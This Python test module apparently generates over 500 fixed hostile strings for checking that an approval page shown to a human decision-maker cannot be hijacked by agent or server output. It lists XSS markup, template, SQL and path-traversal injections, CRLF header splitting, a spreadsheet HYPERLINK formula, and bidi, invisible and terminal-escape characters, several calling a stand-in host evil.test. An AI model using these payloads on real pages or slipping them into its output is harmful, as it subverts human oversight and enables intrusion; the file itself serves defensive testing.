"""What an agent or a server may call things in order to take over the page of the person who decides: 500 strings.

Made from what is written about such things (OWASP "XSS Filter Evasion", UTS #39, Trojan Source), not copied.
"""

MARKUP = (
    "<script>hit('script')</script>",
    "<img src=x onerror=hit('img')>",
    "<svg onload=hit('svg')>",
    "<svg><script>hit('svg script')</script></svg>",
    "<iframe srcdoc=\"<script>parent.hit('frame')</script>\">",
    "<iframe src=javascript:parent.hit('src')>",
    "<a href=javascript:hit('a') autofocus onfocus=hit('focus')>open</a>",
    "<details open ontoggle=hit('toggle')><summary>more</summary></details>",
    "<input autofocus onfocus=hit('input')>",
    "<form action=//evil.test method=post><button id=approve>Approve once</button></form>",
    "<button form=decide formaction=//evil.test>Approve</button>",
    "<style>*{display:none}@import url(//evil.test/x.css);</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<object data=//evil.test/x></object><embed src=//evil.test/y>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit('mxss')>",
    "<!--<img src='--><img src=x onerror=hit('comment')//'>",
    "<template><script>hit('template')</script></template>",
    "<video><source onerror=hit('source')></video><audio src=x onerror=hit('audio')>",
    "<marquee onstart=hit('marquee')>",
    "<body onpageshow=hit('body')>",
    '<xss style="position:fixed;inset:0;background:red">approved by your administrator</xss>',
    "<textarea autofocus onfocus=hit('area')></textarea>",
    "<select><option selected>Approve</option></select>",
    "<dialog open>Everything is fine: <button>OK</button></dialog>",
    "javascript:hit('url')",
    "data:text/html,<script>hit('data')</script>",
    "//evil.test/console/approvals",
    "{{constructor.constructor('hit(1)')()}}{{7*7}}${7*7}#{7*7}{%if 1%}x{%endif%}",
    "&lt;script&gt;hit('entity')&lt;/script&gt;&#60;img src=x onerror=hit(2)&#62;",
    "\\u003cscript\\u003ehit('escape')\\u003c/script\\u003e",
    "%3Cscript%3Ehit('percent')%3C/script%3E",
    "';hit('js');//\";hit('js');//`${hit('js')}`",
    "-->]]></title></style></script></textarea><script>hit('closing')</script>",
    '=HYPERLINK("//evil.test","open")',
    "'; DROP TABLE tickets; --",
    "../../../../etc/passwd?next=//evil.test#x",
    "approve\r\nSet-Cookie: wicket=evil\r\n\r\n<script>hit('split')</script>",
    "[approve](javascript:hit('md')) ![x](//evil.test/x.png) <//evil.test|Approve>",
)
"""Each is harmless only as text. `hit` is what a test gives the page; nothing may ever call it."""

HIDDEN = (
    "\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2028", "\u001b", "\u0007", "\u0008",
    "\u009b",     "\U000e0041", "\u3164", "\u115f", "\u180e", "\u034f",
)  # fmt: skip
"""Characters that turn a line round, cannot be seen, or steer a terminal."""


def strings() -> list[str]:
    """More than five hundred different ones, always the same."""
    found = list(MARKUP)
    for number, text in enumerate(MARKUP):
        mark = HIDDEN[number % len(HIDDEN)]
        found += [
            f'">{text}',
            f"'>{text}",
            f"</pre></code></td></tr></table>{text}",
            f"</dd></dl></details></main>{text}",
            f'{{"path": "{text}"}}',
            f"read_file{mark}{text}",
            f"{mark.join(text)}",
            f"\u001b[2J\u001b[1;31m{text}\u001b]8;;//evil.test\u0007open",
            f"\u202e{text[::-1]}\u202c",
            text.replace("<", "\uff1c").replace(">", "\uff1e"),
            text.replace("hit", "h\u0131t").upper(),
            (text + " ") * (4_000 // len(text)),
            f"{text}\n\n\n{text}",
        ]
    return list(dict.fromkeys(found))
